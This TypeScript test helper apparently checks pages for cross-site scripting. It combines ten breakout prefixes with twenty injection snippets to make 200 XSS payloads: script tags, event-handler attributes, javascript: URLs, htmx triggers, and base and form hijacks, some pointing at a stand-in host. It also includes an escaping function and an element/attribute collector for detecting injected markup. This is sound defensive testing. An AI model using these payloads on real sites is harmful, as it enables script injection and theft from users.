// Two hundred texts that would run if a page took them for markup: ways out of where text may stand, times what runs.
const WAYS_OUT = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '</pre></code>', '--><', '\u0000"><']
const RUNS = [
  '<script>x()</script>',
  '<ScRiPt/src=//e>',
  '<img src=x onerror=x()>',
  '<svg/onload=x()>',
  '<svg><a xlink:href=javascript:x()>',
  ' onmouseover=x() a="',
  ' autofocus onfocus=x() ',
  ' style=behavior:url(x) ',
  '<a href=javascript:x()>a</a>',
  '<a href="java\tscript:x()">a</a>',
  '<iframe srcdoc="<script>x()">',
  '<b hx-get=/x hx-trigger=load>',
  '<i hx-on:load=x()>',
  '<hx-partial hx-target=body>x',
  '<form action=//e><input>',
  '<base href=//e>',
  '<meta http-equiv=refresh content=0>',
  '<link rel=stylesheet href=//e>',
  '<details open ontoggle=x()>',
  '<math><mi xlink:href=data:,x>',
]

export const payloads: readonly string[] = WAYS_OUT.flatMap((way) => RUNS.map((run) => way + run))

/** As a page shows it where it is taken for text. */
export function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')
}

/** Every element of a document, and every attribute on each, as `tag` and `tag name`. */
export async function vocabularyOf(html: string): Promise<Set<string>> {
  const words = new Set<string>()
  const rewriter = new HTMLRewriter().on('*', {
    element({ tagName, attributes }) {
      words.add(tagName)
      for (const [name, value] of attributes) {
        words.add(`${tagName} ${name}`)
        // Where the browser goes, and what htmx asks, is ours to say.
        if (/^(href|src|action|formaction)$/.test(name) && !/^(\/|#|https:\/\/|mailto:|data:image)/.test(value))
          words.add(`${tagName} ${name}=${value}`)
        if (name.startsWith('hx-')) words.add(`${tagName} ${name}=${value.split('?')[0]}`)
      }
    },
  })
  await rewriter.transform(new Response(html)).text()
  return words
}
